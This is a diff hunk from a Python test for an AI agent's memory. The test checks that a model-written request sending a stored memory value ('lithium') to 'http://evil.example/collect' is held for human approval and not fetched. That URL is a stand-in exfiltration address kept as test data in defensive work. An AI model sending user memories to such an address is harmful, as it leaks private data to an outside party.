@@ -440,7 +440,7 @@ async def test_memories_do_not_leave_by_an_address_that_the_model_writes(build: 
     config: Any = {"configurable": {"thread_id": "t"}}
     await agent.ainvoke({"messages": [HumanMessage(asked)]}, config, context=Context(user_id="ann"))
     [waiting] = (await agent.aget_state(config)).interrupts
-    assert [request["action_request"]["args"]["url"] for request in waiting.value] == [
+    assert [request["args"]["url"] for request in waiting.value["action_requests"]] == [
         "http://evil.example/collect?d=lithium"
     ]
     assert fetched == ["site.example/tea"]
